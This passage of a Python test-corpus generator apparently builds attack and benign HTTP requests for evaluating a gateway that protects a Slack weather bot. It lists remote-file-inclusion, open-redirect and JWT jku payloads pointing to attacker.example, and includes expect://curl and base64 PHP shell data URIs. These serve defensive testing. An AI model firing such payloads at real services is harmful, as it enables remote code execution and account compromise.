    "http://attacker.example/shell.txt?",
    "https://attacker.example/inc/units.txt?",
    "http://attacker.example/c99.txt??",
    "https://attacker.example/x.txt?x=",
    "http://attacker.example/r57.txt?&",
    "ftp://attacker.example/pub/units.txt?",
]
# POST /admin/features `action`
RFI_QM_ACTION = [
    "http://attacker.example/weather.py?",
    "https://attacker.example/actions/weather.txt?",
    "http://attacker.example/x.txt?.py",
    "https://attacker.example/payload.txt?ignored=",
    "http://attacker.example/shell.php?cmd=id?",
]
# a Slack file_share event's `files[0].url_private`
RFI_QM_FILE_URL = [
    "https://attacker.example/files-pri/T061EG9R6-F02/report.txt?",
    "http://attacker.example/avatar.png.php?",
    "https://attacker.example/dl/invoice.pdf?",
    "http://attacker.example/b.txt?%00",
    "https://files.attacker.example/cmd.txt?",
]
# /me/settings `timezone`
RFI_QM_TZ = [
    "http://attacker.example/zoneinfo/UTC?",
    "https://attacker.example/tz.txt?",
    "http://attacker.example/Europe/London?",
    "https://attacker.example/zones/?tz=",
]
# GET /api/users `team_id`
RFI_QM_TEAM = [
    "http://attacker.example/team.txt?",
    "https://attacker.example/T061EG9R6.txt?",
    "http://attacker.example/t?id=",
    "https://attacker.example/teams/inc.txt?",
]
# a block_actions button's `value` and POST /me/location `place`
RFI_QM_PLACE = [
    "http://attacker.example/geocode.txt?",
    "https://attacker.example/v1/search?name=",
    "http://attacker.example/place.php?",
    "https://attacker.example/loc.txt??",
]
RFI_QM_BUTTON = [
    "http://attacker.example/forecast.txt?",
    "https://attacker.example/set_location.txt?",
    "http://attacker.example/l.txt?a",
    "https://attacker.example/p.txt?#",
]

# --- include-parameter-with-url ----------------------------------------------------------------------------------
# include-style parameters added to our real routes (/me/, the admin pages, /api/users, /auth/slack/): a tester
# probing for an include(), render_template(name) or open(url) behind a parameter the routes do not document.
# Written `name=url`; the URL is encoded as a value.
RFI_INC = [
    "page=http://attacker.example/shell.txt",
    "file=https://attacker.example/x.txt",
    "template=http://attacker.example/admin/users.html",
    "include=http://203.0.113.7/inc.txt",
    "path=https://attacker.example/p.txt",
    "page=https://raw.attacker.example/k/c.txt",
    "file=ftp://attacker.example/pub/f.txt",
    "template=https://attacker.example/me/page.html",
    "include=https://attacker.example/footer.php",
    "path=http://attacker.example/static/admin.css",
    "inc=http://attacker.example/i.txt",
    "doc=https://attacker.example/d.txt",
    "view=http://attacker.example/v.html",
    "layout=https://attacker.example/base.html",
    "load=http://attacker.example/l.txt",
    "url=http://attacker.example/r.txt",
    "src=https://attacker.example/s.txt",
    "lang=http://attacker.example/en.txt",
    "theme=https://attacker.example/dark.css.txt",
    "module=http://attacker.example/mod.txt",
    "content=https://attacker.example/c.html",
    "document=http://attacker.example/doc.txt",
    "folder=https://attacker.example/dir/",
    "dir=http://attacker.example/",
    "mosConfig_absolute_path=http://attacker.example/s.txt",
    "phpbb_root_path=https://attacker.example/",
    "include_path=http://attacker.example/lib/",
    "base_path=https://attacker.example/b/",
    "rootdir=http://attacker.example/r/",
    "_SERVER[DOCUMENT_ROOT]=http://attacker.example/",
    "GLOBALS[basedir]=https://attacker.example/",
    "config[template_dir]=http://attacker.example/tpl/",
]
INC_ROUTES = ["/me/", "/admin/", "/admin/users", "/admin/gateway", "/api/users", "/auth/slack/", "/admin/audit",
              "/me/data.json"]

# --- off-domain-reference ----------------------------------------------------------------------------------------
# POST /admin/login `next` and GET /admin/login?next= (an open redirect to a page that loads the payload)
RFI_OFF_NEXT = [
    "https://attacker.example/admin/",
    "//attacker.example/",
    "https:attacker.example",
    "\\/\\/attacker.example/",
    "/\\attacker.example",
    "https://localhost:8443.attacker.example/admin/",
    "//attacker.example%2f%2e%2e",
]
# Sign in with Slack's `redirect_uri`
RFI_OFF_REDIRECT = [
    "https://slack.com.attacker.example/openid/connect/authorize",
    "https://attacker.example/auth/slack/callback",
    "https://localhost:8443@attacker.example/auth/slack/callback",
    "https://attacker.example#@localhost:8443/auth/slack/callback",
    "https://localhost:8443/auth/slack/callback/../../redirect?to=https://attacker.example",
    "https://xn--slck-loa.com/openid/connect/authorize",
]
# /slack/commands `response_url`
RFI_OFF_CMD_HOOK = [
    "https://hooks.slack.com.attacker.example/commands/T061EG9R6/1/x",
    "https://attacker.example/commands/T061EG9R6/1/x",
    "https://hooks-slack.com/commands/T061EG9R6/1/x",
    "https://hooks.slack.com.evil/commands/T061EG9R6/1/x",
]
# a block_actions payload's `response_url`
RFI_OFF_BTN_HOOK = [
    "https://attacker.example/actions/T061EG9R6/1/x",
    "https://hooks.slack.co/actions/T061EG9R6/1/x",
    "https://hooks.slack.com:443@attacker.example/actions/x",
]
# the JWT header's `jku` and `x5u`
RFI_OFF_JKU = [
    "https://attacker.example/.well-known/jwks.json",
    "https://localhost:8443.attacker.example/.well-known/jwks.json",
    "https://attacker.example/certs/x5u.pem",
]
# a Slack file_share event's `files[0].url_private`
RFI_OFF_FILE_URL = [
    "https://files.slack.com.attacker.example/files-pri/T061EG9R6-F03/inc.txt",
    "https://attacker.example/files-pri/T061EG9R6-F04/shell.txt",
    "https://pastebin.com/raw/Xk2pQz9a",
    "https://raw.githubusercontent.com/attacker/kit/main/shell.txt",
    "https://gist.githubusercontent.com/attacker/0a1b2c3d/raw/inc.php",
]
# TokenDealer's `audience` and /verify_token's `audience`
RFI_OFF_AUDIENCE = [
    "https://attacker.example/api",
    "https://jeeves.attacker.example",
    "https://attacker.example/.well-known/oauth-authorization-server",
    "https://ngrok-free.app.attacker.example/aud",
]

# --- rfi-protocol ------------------------------------------------------------------------------------------------
# /me/settings `units` (template include through other schemes)
RFI_PROTO_UNITS = [
    "ftp://attacker.example/pub/s.txt",
    "ftps://attacker.example/pub/s.txt",
    "smb://attacker.example/share/s.txt",
    "\\\\attacker.example\\share\\s.txt",
    "\\\\203.0.113.7@SSL\\DavWWWRoot\\s.txt",
    "file://attacker.example/share/s.txt",
    "data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
]
# /me/settings `timezone`
RFI_PROTO_TZ = [
    "expect://id",
    "expect://curl%20http://attacker.example/x",
    "data:,<?php system('id');?>",
    "gopher://attacker.example:70/_include",
    "tftp://attacker.example/zone",
    "smb://203.0.113.7/tz/UTC",
]
# POST /admin/features `action`
RFI_PROTO_ACTION = [
    "ftp://anonymous:x@attacker.example/weather.py",
    "\\\\attacker.example\\c$\\actions\\weather.py",
    "sftp://attacker.example:22/actions/x.py",
    "ssh2.exec://attacker.example/id",
    "dict://attacker.example:11111/",
    "ldap://attacker.example/o=actions",
]
# a Slack file_share event's `files[0].url_private`
RFI_PROTO_FILE_URL = [
    "ftp://203.0.113.7/pub/report.txt",
    "smb://attacker.example/public/report.pdf",
    "jar:http://attacker.example/x.jar!/inc.txt",
    "netdoc://attacker.example/x",
    "webdav://attacker.example/files/x.txt",
    "data://text/plain;base64,PD89YGlkYDs/Pg==",
    "\\\\attacker.example@80\\files\\report.txt",
]
# the JWT header's `jku`
RFI_PROTO_JKU = [
    "ftp://attacker.example/jwks.json",
    "file://attacker.example/jwks.json",
    "data:application/json,{\"keys\":[]}",
]
# POST /me/location `place`
RFI_PROTO_PLACE = [
    "smb://attacker.example/places/paris",
    "\\\\attacker.example\\places\\paris.txt",
    "expect://ls",
]

# ================================================================================================================
# The families: (category, sub, [(real placement, payloads)])
Target = tuple[str, list[str]]
FAMILIES: list[tuple[str, str, list[Target]]] = [
    ("rce", "unix-command-injection", [("me-location", RCE_SEP_PLACE), ("slack-cmd-text", RCE_SEP_COMMAND),
                                       ("admin-slack-user", RCE_SEP_MAPSLACK), ("admin-client-id", RCE_SEP_CLIENT),
                                       ("slack-interaction-value", RCE_SEP_BUTTON)]),
    ("rce", "unix-shell-evasion", [("me-tz", RCE_EVADE_TZ), ("me-alert-time", RCE_EVADE_ALERT),
                                   ("slack-cmd-text", RCE_EVADE_COMMAND), ("admin-feature-team", RCE_EVADE_FEATURE),
                                   ("api-team", RCE_EVADE_TEAM)]),
    ("rce", "windows-command-injection", [("me-location", RCE_WIN_PLACE), ("slack-cmd-text", RCE_WIN_COMMAND),
                                          ("admin-client-desc", RCE_WIN_CLIENT),
                                          ("admin-slack-username", RCE_WIN_USERNAME)]),
    ("rce", "powershell", [("slack-event-text", RCE_PS_EVENT), ("me-location", RCE_PS_PLACE),
                           ("admin-client-desc", RCE_PS_CLIENT), ("oauth-scope", RCE_PS_SCOPE)]),
    ("rce", "unix-command-with-path", [("admin-slack-user", RCE_PATH_MAPSLACK), ("api-patch-name", RCE_PATH_NAME),
                                       ("me-tz", RCE_PATH_TZ), ("slack-cmd-text", RCE_PATH_COMMAND),
                                       ("oauth-scope", RCE_PATH_SCOPE), ("admin-client-id", RCE_PATH_CLIENT),
                                       ("me-location", RCE_PATH_PLACE)]),
    ("rce", "reverse-shell", [("me-location", RCE_REV_PLACE), ("slack-cmd-text", RCE_REV_COMMAND),
                              ("slack-event-text", RCE_REV_EVENT), ("admin-client-desc", RCE_REV_CLIENT)]),
    ("rce", "shellshock", [("header:User-Agent", RCE_SHOCK_UA), ("header:Referer", RCE_SHOCK_REFERER),
                           ("cookie-me", RCE_SHOCK_COOKIE), ("header:X-Slack-Retry-Reason", RCE_SHOCK_RETRY),
                           ("header:Accept-Language", RCE_SHOCK_LANG)]),
    ("rce", "shell-downloader", [("me-location", RCE_DL_PLACE), ("slack-cmd-text", RCE_DL_COMMAND),
                                 ("admin-client-id", RCE_DL_CLIENT), ("slack-interaction-value", RCE_DL_BUTTON),
                                 ("api-patch-name", RCE_DL_NAME)]),
    ("rce", "shell-file-write", [("admin-client-desc", RCE_WRITE_CLIENT), ("slack-event-text", RCE_WRITE_EVENT),
                                 ("me-location", RCE_WRITE_PLACE), ("api-patch-name", RCE_WRITE_NAME)]),
    ("rce", "restricted-file-names", [("slack-cmd-text", RCE_FILES_COMMAND), ("me-tz", RCE_FILES_TZ),
                                      ("api-team", RCE_FILES_TEAM), ("oauth-audience", RCE_FILES_AUDIENCE),
                                      ("slack-interaction-value", RCE_FILES_BUTTON)]),
    ("lfi", "path-traversal", [("me-tz", LFI_TRAV_TZ), ("api-patch-tz", LFI_TRAV_API_TZ),
                               ("me-units", LFI_TRAV_UNITS), ("admin-static", LFI_TRAV_STATIC),
                               ("jwt-kid", LFI_TRAV_KID)]),
    ("lfi", "os-file-access", [("me-units", LFI_OS_UNITS), ("me-tz", LFI_OS_TZ),
                               ("admin-feature-action", LFI_OS_ACTION), ("jwt-kid", LFI_OS_KID),
                               ("slack-event-file-name", LFI_OS_FILE)]),
    ("lfi", "absolute-path", [("me-tz", LFI_ABS_TZ), ("api-patch-tz", LFI_ABS_API_TZ), ("me-units", LFI_ABS_UNITS),
                              ("admin-feature-action", LFI_ABS_ACTION), ("slack-event-file-name", LFI_ABS_FILE)]),
    ("lfi", "null-byte-truncation", [("me-units", LFI_NUL_UNITS), ("me-tz", LFI_NUL_TZ),
                                     ("admin-feature-action", LFI_NUL_ACTION),
                                     ("slack-event-file-name", LFI_NUL_FILE)]),
    ("lfi", "php-wrapper-lfi", [("me-units", LFI_PHP_UNITS), ("me-tz", LFI_PHP_TZ),
                                ("admin-feature-action", LFI_PHP_ACTION), ("api-team", LFI_PHP_TEAM),
                                ("slack-interaction-value", LFI_PHP_BUTTON)]),
    ("lfi", "log-poisoning-target", [("me-units", LFI_LOG_UNITS), ("me-tz", LFI_LOG_TZ),
                                     ("admin-feature-action", LFI_LOG_ACTION), ("cookie-me", LFI_LOG_COOKIE)]),
    ("lfi", "restricted-file-extension", [("site-path", LFI_EXT_PATH), ("admin-static", LFI_EXT_STATIC),
                                          ("slack-event-file-name", LFI_EXT_FILE)]),
    ("rfi", "url-with-ip-address", [("slack-cmd-response-url", RFI_IP_CMD_HOOK),
                                    ("slack-interaction-response-url", RFI_IP_BTN_HOOK),
                                    ("auth-redirect-uri", RFI_IP_REDIRECT), ("jwt-jku", RFI_IP_JKU),
                                    ("slack-event-file-url", RFI_IP_FILE_URL),
                                    ("oauth-audience", RFI_IP_AUDIENCE[:2]), ("verify-audience", RFI_IP_AUDIENCE[2:]),
                                    ("admin-login-next", RFI_IP_NEXT[:3]), ("admin-login-next-get", RFI_IP_NEXT[3:])]),
    ("rfi", "url-with-trailing-question-mark", [("me-units", RFI_QM_UNITS), ("admin-feature-action", RFI_QM_ACTION),
                                                ("slack-event-file-url", RFI_QM_FILE_URL), ("me-tz", RFI_QM_TZ),
                                                ("api-team", RFI_QM_TEAM), ("me-location", RFI_QM_PLACE),
                                                ("slack-interaction-value", RFI_QM_BUTTON)]),
    ("rfi", "include-parameter-with-url", [("inc-param", RFI_INC)]),
    ("rfi", "off-domain-reference", [("admin-login-next", RFI_OFF_NEXT[:4]), ("admin-login-next-get", RFI_OFF_NEXT[4:]),
                                     ("auth-redirect-uri", RFI_OFF_REDIRECT),
                                     ("slack-cmd-response-url", RFI_OFF_CMD_HOOK),
                                     ("slack-interaction-response-url", RFI_OFF_BTN_HOOK), ("jwt-jku", RFI_OFF_JKU),
                                     ("slack-event-file-url", RFI_OFF_FILE_URL),
                                     ("oauth-audience", RFI_OFF_AUDIENCE[:2]),
                                     ("verify-audience", RFI_OFF_AUDIENCE[2:])]),
    ("rfi", "rfi-protocol", [("me-units", RFI_PROTO_UNITS), ("me-tz", RFI_PROTO_TZ),
                             ("admin-feature-action", RFI_PROTO_ACTION), ("slack-event-file-url", RFI_PROTO_FILE_URL),
                             ("jwt-jku", RFI_PROTO_JKU), ("me-location", RFI_PROTO_PLACE)]),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements
RS_CYCLE = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
            "rs-header:X-Test-Header", "rs-cookie", "rs-param-name"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
COOKIE_SAFE = "!#$&'()*+-./:<=>?@[]^_`{|}~"
PCT = re.compile(r"%(?:[0-9a-fA-F]{2}|u[0-9a-fA-F]{4})")

CSRF = "Zb3kQ9xv2LrT8mWc1YpN4sHf"
ADMIN_COOKIE = "__Host-jeeves_admin=q7Vt2mXk9RbL4sPz8WcN1hJd6FyG3aEu"
ME_COOKIE = "__Host-jeeves_me=H4nR8sLq2VzX6cTb1KmW9pYd3JfG7eNa"
SLACK_FORM = "application/x-www-form-urlencoded"
HOOK = "https://hooks.slack.com/commands/T061EG9R6/6251034867042/Qm3vX9kLr2TbW8yZ"
ACTION_HOOK = "https://hooks.slack.com/actions/T061EG9R6/6251034867043/Hr5tY2nBw7QxK1zP"
BASIC = "Basic " + base64.b64encode(b"demo-client:Vb8x2QkLm9TzR4sWc7YpN1hJf6GdE3aU").decode()
CLAIMS = {"iss": "https://localhost:8443", "sub": "demo-client", "aud": "jeeves", "scope": "read write",
          "iat": 1719000000, "nbf": 1719000000, "exp": 1719000900, "jti": "2f1c9b7e5d3a4f60b8e1c2d3a4b5c6d7"}
SIGNATURE = b64url(bytes(range(64)))
BEARER = "Bearer " + ".".join([b64url_json({"alg": "ES256", "typ": "at+jwt", "kid": "k7Qd2mXo"}),
                               b64url_json(CLAIMS), SIGNATURE])
HEADER_ROUTES = {"User-Agent": "/admin/login", "Referer": "/auth/slack/login", "Accept-Language": "/me/",
                 "X-Slack-Retry-Reason": "/slack/events"}


def _header_safe(value: str) -> bool:
    return all(" " <= ch <= "~" for ch in value) and len(value) < 2000


def _q(value: str, pre: bool) -> str:
    """A value for a URL-encoded carrier; `pre`: written with %XX escapes, which go as written."""
    return urllib.parse.quote(value, safe="%" if pre else "")


def _body(pairs: list[tuple[str, str]], pre_key: str = "", pre: bool = False) -> str:
    return "&".join(k + "=" + _q(v, pre and k == pre_key) for k, v in pairs)


def _request(method: str, uri: str, body: str = "", content_type: str = "", **headers: str) -> dict[str, Any]:
    h = {"User-Agent": UA, "Accept": "*/*"}
    if content_type:
        h["Content-Type"] = content_type
    h.update(headers)
    return {"method": method, "uri": uri, "body": body, "headers": h}


def _xml_body(value: str, root: str, name: str) -> str:
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<?xml version="1.0" encoding="UTF-8"?><{root}><{name}>{escaped}</{name}></{root}>'


def _multipart(parts: list[tuple[str, str, str | None]]) -> str:
    out = []
    for name, value, filename in parts:
        if filename is None:
            out.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n')
        else:
            fn = 'filename="' + filename.replace('"', "%22") + '"'
            out.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"; {fn}\r\n'
                       f"Content-Type: application/octet-stream\r\n\r\n{value}\r\n")
    return "".join(out) + f"--{BOUNDARY}--\r\n"


def _admin_form(uri: str, pairs: list[tuple[str, str]], key: str, v: str, pre: bool) -> dict[str, Any]:
    body = _body([("csrf_token", CSRF), *[(k, v if k == key else x) for k, x in pairs]], key, pre)
    return _request("POST", uri, body, SLACK_FORM, Cookie=ADMIN_COOKIE, Origin="https://localhost:8443",
                    Accept="text/html")


def _me_form(uri: str, pairs: list[tuple[str, str]], key: str, v: str, pre: bool) -> dict[str, Any]:
    body = _body([("csrf_token", CSRF), *[(k, v if k == key else x) for k, x in pairs]], key, pre)
    return _request("POST", uri, body, SLACK_FORM, Cookie=ME_COOKIE, Origin="https://localhost:8443",
                    Accept="text/html")


def _slack_headers(content_type: str) -> dict[str, str]:
    return {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
            "Content-Type": content_type, "X-Slack-Request-Timestamp": "1719000000",
            "X-Slack-Signature": "v0=" + "0" * 64}


def _slash(text: str, response_url: str = HOOK, pre: bool = False, key: str = "text") -> dict[str, Any]:
    pairs = [("token", "gIkuvaNzQIHg97ATvDxqgjtO"), ("team_id", "T061EG9R6"), ("team_domain", "acme"),
             ("channel_id", "D0123456789"), ("channel_name", "directmessage"), ("user_id", "U0DEMOADA"),
             ("user_name", "ada"), ("command", "/jeeves"), ("text", text), ("api_app_id", "A0PNCHHK2"),
             ("is_enterprise_install", "false"), ("response_url", response_url),
             ("trigger_id", "13345224609.738474920.8088930838d88f008e0")]
    return {"method": "POST", "uri": "/slack/commands", "body": _body(pairs, key, pre),
            "headers": _slack_headers(SLACK_FORM)}


def _click(value: str = "Paris", response_url: str = ACTION_HOOK) -> dict[str, Any]:
    payload = {"type": "block_actions", "user": {"id": "U0DEMOADA", "username": "ada", "team_id": "T061EG9R6"},
               "api_app_id": "A0PNCHHK2", "team": {"id": "T061EG9R6", "domain": "acme"},
               "channel": {"id": "D0123456789", "name": "directmessage"}, "response_url": response_url,
               "trigger_id": "13345224609.738474920.8088930838d88f008e0",
               "actions": [{"action_id": "set_location", "block_id": "weather", "type": "button",
                            "value": value, "action_ts": "1719000000.000100"}]}
    return {"method": "POST", "uri": "/slack/interactions",
            "body": "payload=" + urllib.parse.quote(json.dumps(payload), safe=""),
            "headers": _slack_headers(SLACK_FORM)}


def _event(event: dict[str, Any], n: int = 1) -> dict[str, Any]:
    body = {"token": "gIkuvaNzQIHg97ATvDxqgjtO", "team_id": "T061EG9R6", "api_app_id": "A0PNCHHK2",
            "event": {"channel": "D0123456789", "channel_type": "im", "user": "U0DEMOADA",
                      "ts": f"1719000{n:03d}.000100", "event_ts": f"1719000{n:03d}.000100", **event},
            "type": "event_callback", "event_id": f"Ev0{n:08d}", "event_time": 1719000000 + n}
    return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
            "headers": _slack_headers("application/json")}


def _file_event(name: str = "report.pdf", url: str = "") -> dict[str, Any]:
    url = url or f"https://files.slack.com/files-pri/T061EG9R6-F07A1B2C3D4/{urllib.parse.quote(name)}"
    return _event({"type": "message", "subtype": "file_share", "text": "here you go",
                   "files": [{"id": "F07A1B2C3D4", "name": name, "title": name, "mimetype": "application/pdf",
                              "url_private": url, "url_private_download": url + "?download=1"}]})


def _jwt(header: dict[str, Any]) -> str:
    return ".".join([b64url_json(header), b64url_json(CLAIMS), SIGNATURE])


def _api(method: str, uri: str, doc: Any = None, **headers: str) -> dict[str, Any]:
    body = "" if doc is None else json.dumps(doc, ensure_ascii=False)
    h = {"Authorization": BEARER, "Accept": "application/json", **headers}
    return _request(method, uri, body, "application/json" if body else "", **h)


def _token_form(uri: str, pairs: list[tuple[str, str]], key: str, v: str, pre: bool) -> dict[str, Any]:
    body = _body([(k, v if k == key else x) for k, x in pairs], key, pre)
    return _request("POST", uri, body, SLACK_FORM, Authorization=BASIC, Accept="application/json")


def _path(v: str, pre: bool, keep_slash: bool) -> str:
    return urllib.parse.quote(v, safe=("%" if pre else "") + ("/" if keep_slash else ""))


def _real(place: str, v: str, pre: bool, i: int) -> dict[str, Any]:
    """The real field a payload targets, the rest of the request as the product expects it."""
    settings = [("units", "metric"), ("alert_time", "07:30"), ("timezone", "Europe/London"), ("alerts", "on")]
    token = [("grant_type", "client_credentials"), ("scope", "read"), ("audience", "jeeves")]
    if place == "me-location":
        return _me_form("/me/location", [("place", "")], "place", v, pre)
    if place == "me-tz":
        return _me_form("/me/settings", settings, "timezone", v, pre)
    if place == "me-units":
        return _me_form("/me/settings", settings, "units", v, pre)
    if place == "me-alert-time":
        return _me_form("/me/settings", settings, "alert_time", v, pre)
    if place == "slack-cmd-text":
        return _slash(v, pre=pre)
    if place == "slack-cmd-response-url":
        return _slash("weather Paris", v, pre, "response_url")
    if place == "slack-interaction-value":
        return _click(v)
    if place == "slack-interaction-response-url":
        return _click("Paris", v)
    if place == "slack-event-text":
        return _event({"type": "message", "text": v}, i)
    if place == "slack-event-file-name":
        return _file_event(v)
    if place == "slack-event-file-url":
        return _file_event("report.txt", v)
    if place == "admin-slack-user":
        return _admin_form("/admin/slack-sign-in", [("username", "ops"), ("team_id", "T061EG9R6"),
                                                    ("user_id", "")], "user_id", v, pre)
    if place == "admin-slack-username":
        return _admin_form("/admin/slack-sign-in", [("username", ""), ("team_id", "T061EG9R6"),
                                                    ("user_id", "U0DEMOADA")], "username", v, pre)
    if place in ("admin-client-id", "admin-client-desc"):
        key = "client_id" if place == "admin-client-id" else "description"
        return _admin_form("/admin/clients", [("client_id", "reporting-bot"), ("description", "weekly report"),
                                              ("scopes", "read")], key, v, pre)
    if place in ("admin-feature-team", "admin-feature-action"):
        key = "team_id" if place == "admin-feature-team" else "action"
        return _admin_form("/admin/features", [("action", "weather"), ("team_id", "T061EG9R6"), ("enabled", "0")],
                           key, v, pre)
    if place == "admin-login-next":
        return _request("POST", "/admin/login",
                        _body([("csrf_token", CSRF), ("username", "admin"), ("password", "correct horse"),
                               ("totp", "492039"), ("next", v)], "next", pre), SLACK_FORM,
                        Cookie="__Host-jeeves_admin_login=" + CSRF, Origin="https://localhost:8443")
    if place == "admin-login-next-get":
        return _request("GET", "/admin/login?next=" + _q(v, pre), Accept="text/html")
    if place == "auth-redirect-uri":
        return _request("GET", "/auth/slack/login?for=admin&redirect_uri=" + _q(v, pre), Accept="text/html")
    if place == "oauth-scope":
        return _token_form("/oauth/token", token, "scope", v, pre)
    if place == "oauth-audience":
        return _token_form("/oauth/token", token, "audience", v, pre)
    if place == "verify-audience":
        return _token_form("/verify_token", [("access_token", BEARER[7:]), ("audience", "jeeves")], "audience",
                           v, pre)
    if place == "api-team":
        return _api("GET", "/api/users?team_id=" + _q(v, pre) + "&limit=50")
    if place == "api-patch-name":
        return _api("PATCH", "/api/users/42", {"name": v})
    if place == "api-patch-tz":
        return _api("PATCH", "/api/users/42", {"settings": {"timezone": v}})
    if place == "jwt-kid":
        return _api("GET", "/api/users?limit=50", Authorization="Bearer " + _jwt({"alg": "ES256", "typ": "at+jwt",
                                                                                   "kid": v}))
    if place == "jwt-jku":
        return _api("GET", "/api/users?limit=50", Authorization="Bearer " + _jwt({"alg": "RS256", "typ": "at+jwt",
                                                                                   "kid": "k7Qd2mXo", "jku": v}))
    if place == "admin-static":
        return _request("GET", "/admin/static/" + _path(v, pre, False), Accept="text/css,*/*;q=0.1")
    if place == "site-path":
        return _request("GET", "/" + _path(v, pre, True))
    if place == "cookie-me":
        return _request("GET", "/me/", Cookie="__Host-jeeves_me=" + urllib.parse.quote(v, safe=COOKIE_SAFE),
                        Accept="text/html")
    if place == "header:X-Slack-Retry-Reason":
        rec = _event({"type": "message", "text": "weather Paris"}, i)
        return {**rec, "headers": {**rec["headers"], "X-Slack-Retry-Num": "1", "X-Slack-Retry-Reason": v}}
    if place.startswith("header:"):
        name = place.split(":", 1)[1]
        return _request("GET", HEADER_ROUTES[name], Accept="text/html", **{name: v})
    if place == "inc-param":
        name, url = v.split("=", 1)
        return _request("GET", INC_ROUTES[i % len(INC_ROUTES)] + "?" + name + "=" + _q(url, pre),
                        Accept="text/html", Cookie=ME_COOKIE if i % 2 else ADMIN_COOKIE)
    raise ValueError(place)


def _rs(place: str, path: str, name: str, v: str, pre: bool) -> dict[str, Any]:
    form = "application/x-www-form-urlencoded"
    if place == "rs-query":
        return _request("GET", path + "?" + name + "=" + _q(v, pre))
    if place == "rs-form":
        return _request("POST", path, name + "=" + _q(v, pre), form)
    if place == "rs-json":
        return _request("POST", path, json.dumps({name: v}), "application/json")
    if place == "rs-xml":
        return _request("POST", path, _xml_body(v, "root", name), "text/xml")
    if place == "rs-raw-body":
        return _request("POST", path, v, form)
    if place.startswith("rs-header:"):
        return _request("GET", path, **{place.split(":", 1)[1]: v})
    if place == "rs-cookie":
        return _request("GET", path, Cookie=name + "=" + urllib.parse.quote(v, safe=COOKIE_SAFE))
    if place == "rs-param-name":
        return _request("GET", path + "?" + _q(v, pre) + "=1")
    if place == "rs-multipart-filename":
        return _request("POST", "/post" if path in ("/", "/get", "/search") else path,
                        _multipart([("file", "hello", v)]), "multipart/form-data; boundary=" + BOUNDARY)
    raise ValueError(place)


def _fits(place: str, v: str) -> bool:
    """Header-borne and path placements need a printable single-line ASCII value."""
    if place.startswith(("header:", "rs-header:")) or place in ("cookie-me", "rs-cookie", "admin-static", "site-path"):
        return _header_safe(v)
    if place in ("rs-query", "rs-param-name", "rs-raw-body"):
        return len(v) < 1800
    return True


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    seen: set[str] = set()
    for s, (category, sub, targets) in enumerate(FAMILIES):
        i = -1
        for real_place, payloads in targets:
            for payload in payloads:
                i += 1
                if payload in seen:
                    raise ValueError(f"duplicate payload: {payload!r}")
                seen.add(payload)
                pre = category in ("lfi", "rfi") and PCT.search(payload) is not None
                rs_path = RS_PATHS[(i + s) % len(RS_PATHS)]
                rs_name = RS_NAMES[(i + 3 * s) % len(RS_NAMES)]
                rs_value = payload
                if real_place == "inc-param":
                    rs_name, rs_value = payload.split("=", 1)
                    rs_place = ["rs-query", "rs-form"][i % 2]
                elif real_place == "slack-event-file-name":
                    rs_place = "rs-multipart-filename"
                else:
                    rs_place = RS_CYCLE[(i + 2 * s) % len(RS_CYCLE)]
                    if not _fits(rs_place, payload):
                        rs_place = ["rs-json", "rs-form", "rs-xml"][i % 3]
                if not _fits(real_place, payload):
                    raise ValueError(f"{payload!r} does not fit {real_place}")
                for place, rec in ((real_place, _real(real_place, payload, pre, i)),
                                   (rs_place, _rs(rs_place, rs_path, rs_name, rs_value, pre))):
                    n += 1
                    yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                           "placement": place, "payload": payload}


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by the product's users, its support team and its engineers
CHAT = [
    # support chat about the product and its Slack commands
    "hey, /jeeves weather Paris says \"unsettled weather\" all week, is that right?",
    "remember location Ben & Jerry's didn't work at first, works now after the release",
    "can I set my location to Bath? it keeps picking Bath, Maine instead of Bath, UK",
    "how do I change my timezone? I moved from Europe/London to America/New_York",
    "the alert at 07:30 arrived at 08:30 today, daylight saving again?",
    "forget me worked, thanks. re-added myself with /jeeves remember location Oslo",
    "my units are stuck on imperial, switched to metric on /me/ and it's fine now",
    "weather Sydney tomorrow? gives today's forecast, known issue?",
    "is there a way to get the forecast for Cat Island, Bahamas? it finds a cat cafe in Tokyo lol",
    "login link expired after 10 minutes, I was in a meeting. just run /jeeves login again right?",
    # engineers running the stack
    "make up && make status shows jeeves restarts=3 last_exit=-9, someone OOM-killing it?",
    "`curl --cacert .run/certs/ca.pem https://localhost:8443/healthz` gives ok for me",
    "run `.venv/bin/python -m app.demo_event \"weather Paris\"` and check .run/logs/fake-slack.jsonl",
    "tail -f .run/logs/gateway-error.log while you replay the Slack event, the block reason is there",
    "who changed gateway/gateway.yaml? make reload failed with nginx -t complaining about a semicolon",
    "`python -m tokendealer.cli clients create reporting-bot --scopes \"read write\"` then copy the secret",
    "keys rotate: tokendealer.cli keys create, wait 5 min for the JWKS cache, then keys activate -- KID",
    "the kid starts with a dash so you need the `--` before it, see README",
    "grep jti .run/logs/tokendealer.log | wc -l says 12k tokens issued today, a client is looping",
    "cat .run/secrets/demo_client.json | jq -r .client_id  gives demo-client as expected",
    "please don't paste the content of .run/secrets/ in here, even for the dev stack",
    "the redis password is in .run/secrets/redis_password, don't hardcode it in the worker",
    "ps aux | grep hypercorn shows two jeeves processes, the supervisor restarted one",
    "set JEEVES_DEMO=0 and the real Slack app creds, then make run; response_url must be hooks.slack.com",
    "pg is down again? `make status` says postgres restarting_in=8s",
    "is /etc/passwd readable from the container? asking for the hardening checklist, not for fun",
    "docs say the tz database lives in /usr/share/zoneinfo, we validate timezone against zoneinfo names",
    "ran the pentest checklist: path traversal on /admin/static/ returns 404, good",
